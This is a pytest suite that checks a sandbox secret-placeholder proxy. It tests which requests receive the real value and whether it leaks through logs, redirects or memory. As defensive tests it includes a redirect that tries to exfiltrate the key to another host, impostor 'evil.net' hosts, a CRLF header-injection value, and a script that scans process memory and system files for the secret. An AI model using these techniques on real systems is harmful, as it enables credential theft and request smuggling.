"""Secrets that a sandbox uses without holding them: which requests get the value, and who else sees it."""

import base64
import json
import re
import signal
import time

import e2b
import pytest
from conftest import VALUE, fetch, furnished, last_request, run
from test_traffic import call

RESOLVE = {"SoulBox-Env-Secrets": "resolve"}
MARKER = re.compile(r"soulbox_secret_[a-z0-9]{26}")
# With what a URL and an HTTP header write in different ways.
ODD = "p@ss/w+rd=é&42"


@pytest.fixture(scope="module")
def holder(trusting):
    """A sandbox with placeholders of two secrets of `api.example.com`, made by the published client."""
    trusting.run("secret", "set", "mine", "--host", "api.example.com", input=VALUE)
    trusting.run("secret", "set", "odd", "--host", "*.example.com", input=ODD)
    envs = {"KEY": "${placeholder:mine}", "ODD": "${placeholder:ODD}", "HEADER": "Bearer ${placeholder:mine}", "PRICE": "5$$"}
    sandbox = furnished(trusting.create(envs=envs, headers=RESOLVE))
    yield sandbox
    sandbox.kill()


@pytest.fixture(scope="module")
def key(holder):
    """What it holds instead of the value."""
    key, header, price = run(holder, 'printf "%s|%s|%s" "$KEY" "$HEADER" "$PRICE"')[1].split("|")
    assert MARKER.fullmatch(key) and (header, price) == (f"Bearer {key}", "5$")
    return key


def test_a_header_gets_the_value_wherever_the_placeholder_stands(holder, key, world):
    mark = world.mark()
    code, said = fetch(holder, "https://api.example.com/", '-H "Authorization: $HEADER"', '-H "X-Two: <$KEY,$KEY>"', "-d body=$KEY")
    assert code == 0, said
    headers = last_request(world, mark)["headers"]
    assert headers["authorization"] == f"Bearer {VALUE}" and headers["x-two"] == f"<{VALUE},{VALUE}>"
    # The host sends back what it got: headers masked, and of the body its length, which is that of the placeholder.
    answer = json.loads(said)
    assert answer["headers"]["authorization"] == "Bearer " + "*" * len(VALUE)
    assert answer["length"] == len(f"body={key}")


def test_a_query_gets_it_encoded(holder, world):
    mark = world.mark()
    code, said = fetch(holder, '"https://api.example.com/v1?a=$ODD&b=$KEY"')
    assert code == 0, said
    encoded = "p%40ss%2Fw%2Brd%3D%C3%A9%2642"
    assert last_request(world, mark)["path"] == f"/v1?a={encoded}&b={VALUE}"
    assert json.loads(said)["path"] == f"/v1?a={'*' * len(encoded)}&b={'*' * len(VALUE)}"


def test_a_header_that_is_named_by_the_value_does_not_come_back(holder, world):
    mark = world.mark()
    code, said = fetch(holder, '"https://api.example.com/names?$KEY"', "-i")
    assert code == 0 and VALUE not in said and "content-type:" in said, said
    assert last_request(world, mark)["path"] == f"/names?{VALUE}"
    assert "x-other: told" in fetch(holder, "https://api.example.com/names?other", "-i")[1]


@pytest.mark.parametrize("user, sent", [('"me:$KEY"', f"me:{VALUE}"), ('"$KEY:x"', f"{VALUE}:x"), ('"$KEY:"', f"{VALUE}:")])
def test_basic_authentication_gets_it(holder, world, user, sent):
    mark = world.mark()
    code, said = fetch(holder, "https://api.example.com/", f"-u {user}")
    assert code == 0, said
    coded = base64.b64encode(sent.encode()).decode()
    assert last_request(world, mark)["headers"]["authorization"] == f"Basic {coded}"
    assert coded not in said and VALUE not in said


def test_programs_and_http2_need_not_know_of_it(holder, world):
    mark = world.mark()
    script = """
import os, urllib.request
request = urllib.request.Request("https://api.example.com/?key=" + os.environ["KEY"], headers={"X-Key": os.environ["KEY"]})
print(urllib.request.urlopen(request).status)
"""
    holder.files.write("/tmp/ask.py", script)
    assert run(holder, "python3 /tmp/ask.py")[1].strip() == "200"
    request = last_request(world, mark)
    assert request["headers"]["x-key"] == VALUE and request["path"] == f"/?key={VALUE}"
    mark = world.mark()
    code, said = fetch(holder, "https://api.example.com/", "--http2", '-H "X-Key: $KEY"', "-o /dev/null -w '%{http_version}'")
    assert (code, said) == (0, "2")
    assert last_request(world, mark)["headers"]["x-key"] == VALUE


def test_other_hosts_get_the_placeholder(holder, key, world):
    """Also those below and above, and those that the world calls the same."""
    world.set_names(api_example_com_evil_net=["93.184.216.35"])
    for host in ["www.example.com", "deep.api.example.com", "other.org", "api.example.com.evil.net"]:
        mark = world.mark()
        code, said = fetch(holder, f'"https://{host}/?k=$KEY"', "-k", '-H "X-Key: $KEY"', '-u "me:$KEY"')
        assert code == 0, (host, said)
        request = last_request(world, mark)
        assert request["headers"]["x-key"] == key and request["path"] == f"/?k={key}", host
        assert base64.b64decode(request["headers"]["authorization"].split()[1]).decode() == f"me:{key}"
        assert VALUE not in json.dumps(request)


@pytest.mark.parametrize("url", ["http://api.example.com/", "https://api.example.com:8443/", "http://api.example.com:8080/"])
def test_only_tls_at_its_own_port_gets_it(holder, world, url):
    mark = world.mark()
    code, said = fetch(holder, url, '-H "X-Key: $KEY"', "-w '%{http_code}'")
    assert said.endswith("403") and "only works over TLS at port 443" in said, said
    assert world.seen(mark, what="http") == []
    # Without a placeholder it is a host like others.
    assert fetch(holder, url)[0] == 0
    assert len(world.seen(mark, what="http")) == 1


def test_an_impostor_gets_nothing(trusting, world):
    """Name service leads to somebody who has no certificate for the name."""
    trusting.run("secret", "set", "evil", "--host", "api.evil.net", input=VALUE)
    world.set_names(api_evil_net=["93.184.216.34"])
    sandbox = furnished(trusting.create(envs={"KEY": "${placeholder:evil}"}, headers=RESOLVE))
    try:
        mark = world.mark()
        code, said = fetch(sandbox, "https://api.evil.net/", "-k", '-H "X-Key: $KEY"', "-w '%{http_code}'")
        assert said.endswith("502") and "TLS failed" in said and VALUE not in said, said
        assert world.seen(mark, what="http") == []
    finally:
        sandbox.kill()


def test_a_name_of_ones_own_gets_nothing(holder, world):
    """TLS that names the host, towards an address of somebody else: the host itself is asked, by its name."""
    mark = world.mark()
    code, said = fetch(holder, "https://api.example.com/", "--resolve api.example.com:443:93.184.216.35", '-H "X-Key: $KEY"')
    assert code == 0, said
    assert last_request(world, mark)["to"] == "93.184.216.34"
    mark = world.mark()
    code, said = fetch(holder, "https://api.example.com/", "-H 'Host: other.org'", '-H "X-Key: $KEY"', "-w '%{http_code}'")
    assert said.endswith("421"), said
    assert world.seen(mark, what="http") == []


def test_a_redirect_carries_the_placeholder(holder, key, world):
    mark = world.mark()
    # The host gives the value back as a place to go to.
    code, said = fetch(holder, '"https://api.example.com/redirect?to=https://other.org/?leak=$KEY"', "-k -L -i", '-H "X-Key: $KEY"')
    assert code == 0, said
    first, second = world.seen(mark, what="http")
    assert (first["host"], first["headers"]["x-key"]) == ("api.example.com", VALUE)
    assert (second["host"], second["headers"]["x-key"]) == ("other.org", key)
    assert second["path"] == "/?leak=" + "*" * len(VALUE)
    assert VALUE not in said


def test_it_is_worth_nothing_in_another_sandbox(trusting, holder, key, world):
    made = trusting.run("sandbox", "create", "--template", "host", "--placeholder", "KEY=mine", "-e", "PRICE=5$").stdout.strip()
    other = trusting.connect(made)
    try:
        own, price = run(other, 'printf "%s|%s" "$KEY" "$PRICE"')[1].split("|")
        assert MARKER.fullmatch(own) and own != key and price == "5$"
        for held, expected in [(own, VALUE), (key, key)]:
            mark = world.mark()
            assert fetch(other, "https://api.example.com/", f"-H 'X-Key: {held}'")[0] == 0
            assert last_request(world, mark)["headers"]["x-key"] == expected
    finally:
        other.kill()


def test_a_later_answer_is_searched_too(holder, world):
    """What one request left at a host does not come back by another that holds no placeholder."""
    kept = world.files / "api.example.com"
    kept.mkdir()
    try:
        (kept / "history").write_text(f"before {VALUE} after {VALUE}")
        code, said = fetch(holder, "https://api.example.com/history", "-H 'Range: bytes=0-12'")
        assert (code, said) == (0, f"before {'*' * len(VALUE)} after {'*' * len(VALUE)}")
        assert VALUE not in fetch(holder, "http://api.example.com/history")[1]
    finally:
        (kept / "history").unlink()
        kept.rmdir()


SEARCH = """
import glob, os, ssl, urllib.request
halves = [{0!r}, {1!r}]
def holds(data):
    at = data.find(halves[0])
    while at >= 0:
        if data[at + len(halves[0]):][:len(halves[1])] == halves[1]:
            return True
        at = data.find(halves[0], at + 1)
    return False
urllib.request.urlopen(urllib.request.Request("https://api.example.com/?" + os.environ["KEY"], headers={{"X-Key": os.environ["KEY"]}})).read()
found, looked = [], 0
for process in glob.glob("/proc/[0-9]*"):
    try:
        for line in open(process + "/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if "r" not in line.split()[1] or "[v" in line:
                continue
            with open(process + "/mem", "rb") as memory:
                memory.seek(start)
                if holds(memory.read(end - start)):
                    found.append(process + " " + line)
            looked += 1
    except (OSError, ValueError, OverflowError):
        pass
names = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
for top in ["/etc", "/tmp", "/run", "/var/log", "/home", "/root", "/dev/shm"]:
    for directory, _, files in os.walk(top):
        names += [os.path.join(directory, name) for name in files]
for name in names:
    try:
        if os.path.getsize(name) < 1 << 20 and holds(open(name, "rb").read()):
            found.append(name)
    except OSError:
        pass
print(looked > 20, found)
"""


@pytest.mark.parametrize("user", ["root", "user"])
def test_the_value_is_nowhere_inside(holder, key, user):
    """Not in memory either, that of the program that just used it included."""

    def search(text):
        holder.files.write("/tmp/search.py", SEARCH.format(text[:9].encode(), text[9:].encode()), user="root")
        return run(holder, "python3 /tmp/search.py", user=user)[1].strip()

    assert search(VALUE) == "True []"
    # It finds what is there.
    assert "[stack]" in (found := search(key)) and "rw-p" in found and "/environ" in found, found


def test_the_value_is_in_no_log_answer_or_file_of_the_server(trusting, holder):
    shown = [repr(holder.get_info()), repr(trusting.list())]
    for line in [("sandbox", "info", holder.sandbox_id, "--json"), ("sandbox", "logs", holder.sandbox_id), ("secret", "list", "--json")]:
        shown.append(trusting.run(*line).stdout)
    assert not [text for text in shown if VALUE in text or ODD in text]
    assert "only works over TLS" in shown[3]
    files = [trusting.log, *(p for p in trusting.data_dir.iterdir() if p.is_file() and p.name != "store.img")]
    assert len(files) > 4
    assert not [file for file in files if VALUE.encode() in file.read_bytes() or ODD.encode() in file.read_bytes()]


def test_it_outlives_the_server_and_other_rules(trusting, holder, world):
    holder.update_network({"allow_out": ["*.example.com"], "deny_out": ["0.0.0.0/0"]})
    trusting.stop(signal.SIGKILL)
    trusting.start()
    mark = world.mark()
    code, said = fetch(holder, "https://api.example.com/", '-H "X-Key: $KEY"')
    assert code == 0, said
    assert last_request(world, mark)["headers"]["x-key"] == VALUE
    holder.update_network({})


@pytest.mark.parametrize("path", ["network", "requests"])
def test_new_rules_of_either_kind_leave_it(trusting, holder, world, path):
    """Neither set of rules has a word for placeholders; neither takes them away."""

    def sent():
        mark = world.mark()
        code, said = fetch(holder, "https://api.example.com/", '-H "X-Key: $KEY"')
        assert code == 0, said
        return last_request(world, mark)["headers"]["x-key"]

    def put(rules):
        if path == "network":
            holder.update_network(rules)
        else:
            assert call(trusting, holder, "requests", "PUT", rules).status == 204

    some = {"network": {"deny_out": ["198.51.100.0/24"]}, "requests": {"bytes": {"api.example.com": {"sent": 1_000_000}}}}
    try:
        for rules in [some[path], {}]:
            put(rules)
            assert sent() == VALUE, rules
    finally:
        put({})


def test_changes_of_the_secret_hold_within_a_second(trusting, world):
    trusting.run("secret", "set", "moving", "--host", "api.example.com", "--host", "www.example.com", input="first-value")
    sandbox = furnished(trusting.create(envs={"KEY": "${placeholder:moving}"}, headers=RESOLVE))

    def sent(host="api.example.com"):
        mark = world.mark()
        code, said = fetch(sandbox, f"https://{host}/", '-H "X-Key: $KEY"')
        seen = world.seen(mark, what="http")
        return seen[0]["headers"]["x-key"] if seen else said

    def change(*arguments, **options):
        trusting.run("secret", *arguments, **options)
        time.sleep(1)

    kept = world.files / "www.example.com"
    kept.mkdir()
    try:
        assert sent() == "first-value"
        change("set", "moving", input="second-value")
        assert sent() == sent("www.example.com") == "second-value"
        (kept / "history").write_text("before second-value after")
        change("set", "moving", "--keep-value", "--host", "api.example.com", "--host", "other.org")
        assert sent() == "second-value"
        assert "secret `moving` to www.example.com" in sent("www.example.com")
        # What the host was given before does not come back all the same.
        assert fetch(sandbox, "https://www.example.com/history") == (0, "before ************ after")
        change("rm", "moving")
        assert "`moving` does not exist" in sent()
    finally:
        (kept / "history").unlink(missing_ok=True)
        kept.rmdir()
        sandbox.kill()


def test_values_cannot_make_a_request_huge(trusting, world):
    trusting.run("secret", "set", "long", "--host", "api.example.com", input="v" * 40_000)
    trusting.run("secret", "set", "lines", "--host", "api.example.com", "--raw", input="a\r\nX-Admin: 1")
    envs = {"LONG": "${placeholder:long}", "LINES": "${placeholder:lines}"}
    sandbox = furnished(trusting.create(envs=envs, headers=RESOLVE))
    try:
        mark = world.mark()
        code, said = fetch(sandbox, "https://api.example.com/", '-H "A: $LONG$LONG"', "-w '%{http_code}'")
        assert said.endswith("403") and "65536" in said, said
        code, said = fetch(sandbox, "https://api.example.com/", '-H "A: $LINES"', "-w '%{http_code}'")
        assert said.endswith("403") and "`lines` does not fit" in said and "Admin" not in said, said
        assert world.seen(mark, what="http") == []
    finally:
        sandbox.kill()


@pytest.mark.parametrize("value, told", [("${placeholder:key}", "bound to no host"), ("${placeholder:nobody}", "does not exist"), ("$BOUND", "placeholder:bound")])
def test_bad_ones_are_told(trusting, value, told):
    with pytest.raises(e2b.SandboxException, match=told):
        trusting.create(envs={"KEY": value}, headers=RESOLVE)
